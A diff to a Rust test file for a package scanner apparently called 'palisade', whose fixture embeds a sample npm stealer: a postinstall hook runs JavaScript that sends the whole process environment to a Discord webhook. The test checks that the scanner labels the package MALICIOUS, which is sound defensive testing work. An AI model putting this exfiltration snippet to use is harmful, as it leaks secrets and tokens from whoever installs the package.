@@ -13,9 +13,7 @@ const STEALER_MANIFEST: &str = r#"{"name": "evil-pkg", "version": "1.0.0", "main
   "scripts": {"postinstall": "node x.js"}}"#;
 const STEALER_JS: &str = r#"const https = require('https');
 const payload = JSON.stringify({ content: JSON.stringify(process.env) });
-const req = https.request({
-  hostname: 'discord.com',
-  path: '/api/webhooks/1234567890/abcdefghijklmnop',
+const req = https.request('https://discord.com/api/webhooks/1183429512345678901/abcdefghijklmnop', {
   method: 'POST',
   headers: { 'Content-Type': 'application/json' },
 });
@@ -270,7 +268,10 @@ fn package_directory_is_scanned_and_table_explains() {
     let output = palisade(dir.path(), dir.path(), &["scan", "evil"]);
     assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
     let text = String::from_utf8_lossy(&output.stdout);
-    assert!(text.starts_with("MALICIOUS  evil-pkg@1.0.0"), "{text}");
+    assert!(
+        text.starts_with("MALICIOUS ") && text.lines().next().is_some_and(|l| l.contains("evil-pkg@1.0.0")),
+        "{text}"
+    );
     assert!(text.contains("x.js:"), "{text}");
     assert!(text.contains("capabilities:"), "{text}");
     // With a lockfile the same directory is a project (nothing to fetch here: an empty one).
